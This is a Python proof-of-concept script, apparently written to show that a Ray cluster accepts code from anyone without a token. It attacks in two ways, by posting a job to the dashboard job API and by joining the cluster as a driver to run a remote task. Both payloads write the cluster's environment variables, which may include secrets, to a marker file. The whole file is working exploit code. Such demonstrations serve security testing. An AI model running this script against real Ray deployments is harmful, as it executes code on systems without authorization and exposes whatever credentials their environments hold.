"""Two ways in which a stranger ran programs on a run's Ray, without a token: `attack.py job|driver HOST PORTS MARKER`.

Prints what came of it. If the attack works, the file MARKER exists, written by the cluster, with the environment there.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path


def submit_job(host: str, port: int, marker: str, token: str = "") -> str:
    """Ask whatever listens there for a job, as a dashboard agent would be asked."""
    body = json.dumps({"entrypoint": f"env > {marker}.tmp && mv {marker}.tmp {marker}"}).encode()
    headers = {"Content-Type": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
    request = urllib.request.Request(f"http://{host}:{port}/api/job_agent/jobs/", data=body, headers=headers)
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10) as answer:
            return f"{port}: HTTP {answer.status}"
    except urllib.error.HTTPError as error:
        return f"{port}: HTTP {error.code}"
    except OSError as error:
        return f"{port}: {getattr(error, 'reason', error)}"
    except Exception as error:  # whatever does not speak HTTP
        return f"{port}: {type(error).__name__}"


def connect_driver(host: str, port: int, marker: str) -> str:
    """Join as a driver, and run a task."""
    import ray

    try:
        ray.init(address=f"{host}:{port}", logging_level="CRITICAL", log_to_driver=False, _node_ip_address=host)

        def intrude() -> None:
            Path(marker).write_bytes(subprocess.run("env", check=True, capture_output=True).stdout)

        ray.get(ray.remote(num_cpus=0)(intrude).remote(), timeout=240)
    except Exception as error:
        return f"{port}: {type(error).__name__}: {str(error).splitlines()[0][:200]}"
    return f"{port}: joined"


if __name__ == "__main__":
    kind, host, ports, marker = sys.argv[1:]
    attack = {"job": submit_job, "driver": connect_driver}[kind]
    for port in map(int, ports.split(",")):
        print(attack(host, port, marker), flush=True)
    os._exit(0)  # a driver that never joined may hang on its way out
